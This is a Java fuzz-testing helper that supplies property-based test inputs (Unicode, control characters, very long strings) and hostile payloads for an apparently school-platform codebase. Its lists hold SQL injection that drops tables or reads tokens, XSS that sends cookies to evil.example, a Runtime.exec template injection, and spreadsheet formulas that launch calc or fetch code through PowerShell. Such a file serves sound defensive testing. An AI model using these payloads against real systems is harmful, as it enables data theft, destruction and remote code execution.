package ru.paragraf.sferum.fuzz;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Text that people and other systems really send, and text that attackers send: any Unicode, Cyrillic, emoji,
 * combining marks, right-to-left text, NUL and control characters, values of 10,000+ characters, SQL injection,
 * HTML/script injection and spreadsheet formulas.
 */
final class Hostile {

    static final List<String> SQL = List.of(
            "' OR '1'='1",
            "1; DROP TABLE school.lesson; --",
            "'); DELETE FROM linkbase.sferum_community; --",
            "1' UNION SELECT token FROM linkbase.sferum_community --",
            "\\'; select pg_sleep(5); --",
            "%' AND 1=CAST((SELECT version()) AS int) --",
            "$$; drop schema exchange cascade; $$",
            "admin'--");
    static final List<String> HTML = List.of(
            "<script>alert('xss')</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.cookie)>",
            "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
            "<a href=\"javascript:alert(1)\">клик</a>",
            "'><iframe src=//evil.example></iframe>",
            "{{7*7}}[[${7*7}]]__${T(Runtime).getRuntime().exec(\"id\")}__");
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Нажмите\")",
            "+7 (812) 000-00-00",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=cmd|'/C powershell IEX(wget evil.example)'!A0");

    private Hostile() {}

    /** Any of the kinds below, each often enough to matter. */
    static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                net.jqwik.api.Tuple.of(2, cyrillic()),
                net.jqwik.api.Tuple.of(1, emoji()),
                net.jqwik.api.Tuple.of(1, combining()),
                net.jqwik.api.Tuple.of(1, rightToLeft()),
                net.jqwik.api.Tuple.of(2, control()),
                net.jqwik.api.Tuple.of(1, veryLong()),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(SQL)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(HTML)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(FORMULAS)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of("", " ", "\u00a0", "\u2003\t", "null", "0", "-1", "1e999")),
                net.jqwik.api.Tuple.of(2, mixed()));
    }

    static Arbitrary<String> cyrillic() {
        return Arbitraries.strings()
                .withCharRange('\u0400', '\u04ff')
                .withChars(' ', '-', '№')
                .ofMaxLength(60);
    }

    static Arbitrary<String> emoji() {
        return Arbitraries.of("😀", "👩‍🏫", "🏳️‍🌈", "🇷🇺", "🧮", "💥", "✅")
                .list()
                .ofMaxSize(12)
                .map(list -> String.join("", list));
    }

    static Arbitrary<String> combining() {
        return Arbitraries.strings()
                .withCharRange('\u0300', '\u036f')
                .ofMinLength(1)
                .ofMaxLength(30)
                .map(marks -> "Й" + marks + "е\u0308");
    }

    static Arbitrary<String> rightToLeft() {
        return Arbitraries.of(
                "\u202eгод.txt\u202dexe",
                "مدرسة \u200f",
                "שלום עולם",
                "\u2067علم\u2069 7А",
                "\u200b\u200c\u200d\ufeff");
    }

    static Arbitrary<String> control() {
        return Arbitraries.strings()
                .withCharRange('\u0000', '\u001f')
                .withChars('\u007f', '\u0085', '\u2028', '\u2029')
                .ofMinLength(1)
                .ofMaxLength(8)
                .flatMap(controls -> Arbitraries.of("", "Тема", "123", "vk1.a.abcdefghijklmnopqrstuv")
                        .map(text -> text.isEmpty()
                                ? controls
                                : text.substring(0, text.length() / 2) + controls + text.substring(text.length() / 2)));
    }

    /** 10,000 to 20,000 characters. */
    static Arbitrary<String> veryLong() {
        return Arbitraries.of("А", "a", "9", "<b>", "😀", "' OR 1=1 --").flatMap(unit -> Arbitraries.integers()
                .between(10_000, 20_000)
                .map(length -> unit.repeat(length / unit.length() + 1).substring(0, length)));
    }

    /** Two kinds glued together: a harmless start does not hide what follows. */
    static Arbitrary<String> mixed() {
        return Combinators.combine(
                        Arbitraries.of("Алгебра ", "7А", "", "12", "vk1.a."),
                        Arbitraries.oneOf(
                                Arbitraries.of(SQL), Arbitraries.of(HTML), Arbitraries.of(FORMULAS), control()))
                .as(String::concat);
    }

    /** Text that survives UTF-8 (no lone surrogate halves), as every URL and file must. */
    static boolean encodable(String text) {
        return !text.isEmpty()
                && text.equals(new String(
                        text.getBytes(java.nio.charset.StandardCharsets.UTF_8),
                        java.nio.charset.StandardCharsets.UTF_8));
    }
}
